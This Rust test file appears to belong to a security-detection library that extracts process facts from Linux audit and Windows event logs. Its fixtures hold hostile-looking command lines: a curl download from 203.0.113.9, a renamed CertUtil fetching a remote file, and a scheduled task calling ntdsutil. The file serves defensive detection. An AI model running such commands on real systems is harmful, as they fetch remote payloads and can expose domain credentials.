#![allow(clippy::unwrap_used)]

use blackrod_model::{Field, Position, Timestamp};

use super::*;

fn event(class: Class, id: u32, fields: &[(Option<Column>, &'static str, &'static str)]) -> Event<'static> {
    let mut event = Event::new(class, Timestamp::from_seconds(1), Position::default());
    event.source.event_id = id;
    for (column, name, value) in fields {
        if let Some(column) = column {
            event.columns.set(*column, event.fields.len());
        }
        event.fields.push(Field::new(*name, *value));
    }
    event
}

fn facts(event: &Event<'_>) -> Option<ProcessFacts> {
    Extractor::new(Table::builtin()).facts(EvidenceId::default(), event)
}

#[test]
fn linux_programs_are_read_with_their_session() {
    let execve = |session: &'static str| {
        event(
            Class::PROCESS_ACTIVITY,
            1309,
            &[
                (Some(Column::Host), "node", "web1.parl.example"),
                (Some(Column::User), "AUID", "Anna"),
                (Some(Column::Session), "ses", session),
                (Some(Column::Process), "exe", "/usr/bin/curl"),
                (
                    Some(Column::CommandLine),
                    "CommandLine",
                    "curl -o /tmp/x http://203.0.113.9/x",
                ),
            ],
        )
    };
    let read = facts(&execve("7")).unwrap();
    assert_eq!(
        (
            read.act,
            read.host.as_str(),
            read.user.as_str(),
            read.session.as_str()
        ),
        (Act::Start, "web1", "anna", "7")
    );
    assert!(read.traits.has(Traits::URL_ADDRESS));
    assert_eq!(facts(&execve("4294967295")).unwrap().session, "");
    let other = event(
        Class::FILE_ACTIVITY,
        1300,
        &[(Some(Column::Process), "exe", "/usr/bin/curl")],
    );
    assert_eq!(facts(&other), None);
}

#[test]
fn renamed_programs_and_tasks_are_known_by_what_they_are() {
    let renamed = event(
        Class::PROCESS_ACTIVITY,
        1,
        &[
            (Some(Column::Process), "Image", "C:\\ProgramData\\a.exe"),
            (
                Some(Column::CommandLine),
                "CommandLine",
                "a.exe -urlcache -f http://203.0.113.9/x x",
            ),
            (None, "OriginalFileName", "CertUtil.exe"),
        ],
    );
    let read = facts(&renamed).unwrap();
    assert!(read.traits.has(Traits::RENAMED));
    assert!(read.programs.iter().any(|program| program == "certutil"));
    let task = event(
        Class::BASE_EVENT,
        4698,
        &[(
            None,
            "TaskContent",
            "<Exec><Command>cmd.exe</Command><Arguments>/c &quot;ntdsutil&quot;</Arguments></Exec>",
        )],
    );
    let read = facts(&task).unwrap();
    assert_eq!((read.act, read.image.as_str()), (Act::Task, "cmd.exe"));
    assert!(
        read.programs.iter().any(|program| program == "ntdsutil"),
        "{:?}",
        read.programs
    );
}
